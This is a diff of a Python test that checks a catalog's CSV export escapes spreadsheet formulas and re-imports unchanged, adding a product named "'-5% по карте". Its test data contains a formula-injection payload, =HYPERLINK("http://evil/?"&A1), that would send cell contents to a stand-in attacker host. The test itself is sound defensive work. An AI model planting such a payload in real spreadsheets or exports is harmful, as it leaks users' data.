@@ -263,7 +263,10 @@ def test_a_group_too_deep_or_too_long_and_too_many_barcodes_are_refused(db, chec
 def test_a_csv_export_never_hands_excel_a_formula_and_reads_back_the_same(db, actor, shop, check, apply, catalog, tmp_path):
     # given a product whose name a cashier typed as a formula, and a code-128 barcode starting with «=»
     apply(check("Наименование;Код;Штрихкоды;Цена", '=HYPERLINK("http://evil/?"&A1);F-1;=1+2;10'))
-    assert set(catalog()) == {'=HYPERLINK("http://evil/?"&A1)'}
+    # and one whose name starts with a quote and a minus, as the export's guard does
+    with db.transaction() as session:
+        service.create_product(session, actor, uuid.UUID(shop["catalog_id"]), ProductIn(name="'-5% по карте", code="F-2"))
+    assert set(catalog()) == {'=HYPERLINK("http://evil/?"&A1)', "'-5% по карте"}
     before = catalog()
     # when the catalog is exported to CSV
     path = tmp_path / "export.csv"
@@ -277,7 +280,7 @@ def test_a_csv_export_never_hands_excel_a_formula_and_reads_back_the_same(db, ac
     imports.check(db, import_id, path)
     with db.transaction() as session:
         job = imports.get(session, actor, import_id)
-    assert (job.state, job.unchanged, job.changed, job.new) == ("ready", 1, 0, 0)
+    assert (job.state, job.unchanged, job.changed, job.new) == ("ready", 2, 0, 0)
     assert catalog() == before
 
 
